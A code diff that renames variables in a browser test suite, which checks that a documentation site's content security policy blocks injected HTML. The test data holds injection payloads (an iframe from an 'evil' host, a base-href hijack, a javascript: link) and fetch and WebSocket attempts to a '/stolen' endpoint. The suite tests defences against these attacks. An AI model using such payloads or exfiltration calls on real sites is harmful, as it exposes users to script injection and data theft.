@@ -43,7 +43,7 @@ const payloads: Readonly<Record<string, string>> = {
   'a frame over plain HTTP': '<iframe src="{evil}/frame.html"></iframe>',
 };
 
-const page = (evil: string) =>
+const writePage = (evil: string) =>
   `<!doctype html><html><head><base href="${evil}/based/"><script>${ownScript}</script></head><body>
    <h1>Article</h1>${Object.values(payloads).join('\n').replaceAll('{evil}', evil)}
    <a id="script" href="javascript:pwned(14)">script</a><img id="based" src="based.png">
@@ -59,7 +59,7 @@ let context: BrowserContext;
 beforeAll(async () => {
   other = await startOtherSite((request, response) => {
     response.setHeader('access-control-allow-origin', '*');
-    if (request.url === '/unprotected') response.setHeader('content-type', 'text/html').end(page(evil));
+    if (request.url === '/unprotected') response.setHeader('content-type', 'text/html').end(writePage(evil));
     else if (request.url === '/script.js')
       response.setHeader('content-type', 'text/javascript').end('pwned(5)');
     else response.setHeader('content-type', 'text/css').end('');
@@ -68,7 +68,7 @@ beforeAll(async () => {
   server = await startServer({
     environment: { LOG_LEVEL: 'error' },
     release: {
-      entries: [...fixtureEntries, { url: '/docs/Injected', content: page(evil) }],
+      entries: [...fixtureEntries, { url: '/docs/Injected', content: writePage(evil) }],
       change: (manifest) => ({ ...manifest, scriptHashes: [hash] }),
     },
   });
@@ -90,9 +90,13 @@ afterEach(async () => {
 async function open(address: string) {
   const openedPage = await context.newPage();
   await openedPage.addInitScript(() => {
-    const ran: number[] = [];
+    const runScripts: number[] = [];
     const refusedUrls: string[] = [];
-    Object.assign(window, { ran, refused: refusedUrls, pwned: (which: number) => ran.push(which) });
+    Object.assign(window, {
+      ran: runScripts,
+      refused: refusedUrls,
+      pwned: (which: number) => runScripts.push(which),
+    });
     document.addEventListener('securitypolicyviolation', (event) =>
       refusedUrls.push(event.effectiveDirective),
     );
@@ -101,11 +105,17 @@ async function open(address: string) {
   await openedPage.goto(address, { waitUntil: 'load' });
   await openedPage.locator('#script').click({ noWaitAfter: true });
   const isOwn = await openedPage.evaluate(() => Reflect.get(window, 'own') === true);
-  const seen = (name: 'ran' | 'refused') => async () =>
+  const createCount = (name: 'ran' | 'refused') => async () =>
     openedPage.evaluate((list) => [...new Set(Reflect.get(window, list) as unknown[])].sort(), name);
-  const otherRequests = () =>
+  const listOtherRequests = () =>
     other.requests.slice(before).filter((request) => request !== 'GET /unprotected');
-  return { opened: openedPage, isOwn, ran: seen('ran'), refused: seen('refused'), otherRequests };
+  return {
+    opened: openedPage,
+    isOwn,
+    ran: createCount('ran'),
+    refused: createCount('refused'),
+    otherRequests: listOtherRequests,
+  };
 }
 
 test('without the policy, nearly all of it works: the attacks are real', async () => {
@@ -136,7 +146,7 @@ test('in an article, no injected script runs and no other site is asked; the pag
 test('even a script that runs cannot make code out of text, nor send what it reads to another site', async () => {
   const { opened } = await open(`${origin}/docs/Injected`);
   const results = await opened.evaluate(async (address) => {
-    const outcome = async (attempt: () => unknown) => {
+    const describeOutcome = async (attempt: () => unknown) => {
       try {
         await attempt();
         return 'done';
@@ -145,8 +155,8 @@ test('even a script that runs cannot make code out of text, nor send what it rea
       }
     };
     return {
-      fetch: await outcome(() => fetch(`${address}/stolen`, { mode: 'no-cors' })),
-      socket: await outcome(
+      fetch: await describeOutcome(() => fetch(`${address}/stolen`, { mode: 'no-cors' })),
+      socket: await describeOutcome(
         () =>
           new Promise((resolve, reject) => {
             const socket = new WebSocket(`${address.replace('http', 'ws')}/stolen`);
@@ -154,7 +164,7 @@ test('even a script that runs cannot make code out of text, nor send what it rea
             socket.onerror = reject;
           }),
       ),
-      worker: await outcome(
+      worker: await describeOutcome(
         () =>
           new Promise((resolve, reject) => {
             const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
